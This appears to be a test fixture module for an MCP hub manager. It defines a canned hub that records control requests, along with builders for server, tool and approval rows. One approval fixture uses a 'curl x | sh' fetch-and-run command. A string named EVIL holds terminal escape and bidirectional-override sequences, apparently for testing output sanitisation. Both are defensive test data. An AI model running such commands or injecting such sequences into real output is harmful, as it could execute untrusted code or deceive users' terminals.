@@ -1,0 +1,258 @@
+"""Owns CannedHub: the control handlers' Hub over canned data, that remembers what it was asked to do.
+
+It must not know HTTP or the command line. Run as a module it serves itself at a path, as a daemon would, until stopped.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import anyio
+from anyio.from_thread import BlockingPortal, start_blocking_portal
+
+from mcphub.control.server import control_server
+from mcphub.errors import ControlError
+from mcphub.status import (
+    ApprovalItem,
+    ApprovalsReport,
+    CallReport,
+    DaemonStatus,
+    LastError,
+    LogsReport,
+    OriginStatus,
+    ReconnectReport,
+    ServerStatus,
+    StatusReport,
+    ToolsReport,
+    ToolStatus,
+)
+
+EVIL = "a\x1b]0;owned\x07\u202eb\U000e0041\x9b31m"
+
+
+def origin(key: str, line: int, scope: str = "user", path: str = "/home/u/.config/mcphub/mcp.json") -> OriginStatus:
+    return OriginStatus(scope=scope, path=path, key=f"mcpServers.{key}", line=line)
+
+
+def server(name: str, **changes: Any) -> ServerStatus:
+    """A connected row, with changes."""
+    row = ServerStatus(
+        name=name,
+        scope="user",
+        workspace="",
+        state="connected",
+        state_text="connected",
+        reason="",
+        attempt=None,
+        attempts=5,
+        retry_in=None,
+        origin=origin(name, 3),
+        shadows=[],
+        transport="stdio",
+        command=["npx", "-y", name],
+        era="legacy",
+        version="2025-11-25",
+        server_info={"name": name, "version": "1.0"},
+        capabilities={"tools": {}},
+        tools=2,
+        warnings=[],
+        pid=4712,
+        rss=25 * 1024 * 1024,
+        uptime=7325.0,
+        calls_in_flight=0,
+        counters={"calls": 12},
+        last_error=None,
+    )
+    row.update(changes)  # type: ignore[typeddict-item]
+    return row
+
+
+def failed(name: str, message: str = "spawn npx ENOENT", **changes: Any) -> ServerStatus:
+    error = LastError(
+        phase="spawn",
+        kind="exited",
+        message=message,
+        remedy="install Node.js",
+        exit_code=127,
+        stderr_tail=["first line", message],
+        at="2026-08-01T12:00:00Z",
+    )
+    fields: dict[str, Any] = {
+        "state": "failed",
+        "state_text": "failed",
+        "reason": "5 attempts failed",
+        "tools": None,
+        "era": None,
+        "version": None,
+        "server_info": None,
+        "capabilities": None,
+        "pid": None,
+        "rss": None,
+        "uptime": None,
+        "counters": {},
+        "last_error": error,
+    }
+    return server(name, **{**fields, **changes})
+
+
+def tool(name: str, description: str = "Does a thing.", title: str = "") -> ToolStatus:
+    return ToolStatus(
+        name=f"mcp__time__{name}",
+        original_name=name,
+        server="time",
+        scope="user",
+        origin=origin("time", 3),
+        title=title,
+        description=description,
+    )
+
+
+def waiting(name: str, state: str = "waiting", **changes: Any) -> ApprovalItem:
+    item = ApprovalItem(
+        name=name,
+        workspace="/w",
+        origin=origin(name, 2, "project", "/w/.mcp.json"),
+        state=state,
+        command=["sh", "-c", "curl x | sh"],
+        cwd="/w",
+        env_names=["TOKEN", "HOME"],
+        digest=f"digest-of-{name}",
+    )
+    item.update(changes)  # type: ignore[typeddict-item]
+    return item
+
+
+class CannedHub:
+    """Set the attributes to what the hub shall answer; `asked` is what it was asked to change, in order."""
+
+    def __init__(self, servers: list[ServerStatus] | None = None) -> None:
+        self.revision = 1
+        self.servers = [server("time")] if servers is None else servers
+        self.problems: list[str] = []
+        self.tool_list = [tool("now"), tool("convert", "Converts.\nAt length.")]
+        self.items: list[ApprovalItem] = []
+        self.lines = ["one", "two"]
+        self.dropped = 0
+        self.results: dict[str, CallReport] = {}
+        self.raises: Exception | None = None
+        self.asked: list[tuple[str, ...]] = []
+        self.pid = os.getpid()
+        #: A call to `hang` waits; these say that it began and that it was cancelled.
+        self.hanging = anyio.Event()
+        self.cancelled = anyio.Event()
+        self.stopped = anyio.Event()
+        self._news = anyio.Event()
+
+    def changed(self) -> None:
+        """A new revision; call it on the loop's thread."""
+        self.revision += 1
+        self._news.set()
+        self._news = anyio.Event()
+
+    def status(self, workspace: str, name: str | None) -> StatusReport:
+        self._maybe_raise()
+        rows = [row for row in self.servers if name in (None, row["name"])]
+        if name is not None and not rows:
+            raise ControlError(f"there is no server {name}", status=404)
+        daemon = DaemonStatus(
+            version="0.1.0",
+            pid=self.pid,
+            uptime=65.0,
+            rss=30 * 1024 * 1024,
+            launcher_pid=None,
+            launcher_rss=None,
+            descriptors=12,
+            agent_socket="/run/a",
+            control_socket="/run/c",
+        )
+        return StatusReport(
+            revision=self.revision, daemon=daemon, servers=rows, sessions=[], problems=list(self.problems)
+        )
+
+    async def wait_newer(self, revision: int) -> int:
+        while self.revision == revision:
+            await self._news.wait()
+        return self.revision
+
+    def tools(self, workspace: str, query: str, schemas: bool) -> ToolsReport:
+        self._maybe_raise()
+        found = [tool.copy() for tool in self.tool_list if query in tool["name"]]
+        for item in found if schemas else []:
+            item["input_schema"] = {"type": "object"}
+        return ToolsReport(revision=self.revision, tools=found)
+
+    async def call(self, workspace: str, tool: str, arguments: bytes) -> CallReport:
+        self._maybe_raise()
+        self.asked.append(("call", workspace, tool, arguments.decode()))
+        if tool == "hang":
+            self.hanging.set()
+            try:
+                await anyio.sleep_forever()
+            finally:
+                self.cancelled.set()
+        if tool in self.results:
+            return self.results[tool]
+        if tool == "echo":
+            content = [{"type": "text", "text": json.loads(arguments).get("text", "")}]
+            return CallReport(tool=tool, server="time", result={"content": content})
+        raise ControlError(f"there is no tool {tool}", status=404)
+
+    async def reconnect(self, workspace: str, name: str | None) -> ReconnectReport:
+        names = [row["name"] for row in self.status(workspace, name)["servers"]]
+        self.asked.append(("reconnect", workspace, *names))
+        return ReconnectReport(reconnected=names)
+
+    def logs(self, workspace: str, name: str, lines: int) -> LogsReport:
+        self.status(workspace, name)
+        return LogsReport(name=name, dropped=self.dropped, lines=self.lines[-lines:] if lines else [])
+
+    def approvals(self, workspace: str) -> ApprovalsReport:
+        self._maybe_raise()
+        return ApprovalsReport(items=list(self.items))
+
+    def approve(self, workspace: str, name: str, digest: str) -> None:
+        item = self._item(name)
+        if item["digest"] != digest:
+            raise ControlError(f"{name} changed since it was shown", status=409)
+        self.asked.append(("approve", workspace, name, digest))
+
+    def reject(self, workspace: str, name: str) -> None:
+        self._item(name)
+        self.asked.append(("reject", workspace, name))
+
+    def stop(self) -> None:
+        self.asked.append(("stop",))
+        self.stopped.set()
+
+    def _item(self, name: str) -> ApprovalItem:
+        for item in self.items:
+            if item["name"] == name:
+                return item
+        raise ControlError(f"nothing asks for a server {name}", status=404)
+
+    def _maybe_raise(self) -> None:
+        if self.raises is not None:
+            raise self.raises
+
+
+@contextmanager
+def served(hub: CannedHub, path: str) -> Iterator[BlockingPortal]:
+    """The hub behind the real control server at `path`, on a loop in a thread of its own."""
+    with start_blocking_portal("asyncio") as portal, portal.wrap_async_context_manager(control_server(hub, path)):
+        yield portal
+
+
+async def _main(path: str) -> None:
+    hub = CannedHub()
+    async with control_server(hub, path):
+        print("ready", flush=True)
+        await hub.stopped.wait()
+
+
+if __name__ == "__main__":
+    anyio.run(_main, sys.argv[1])
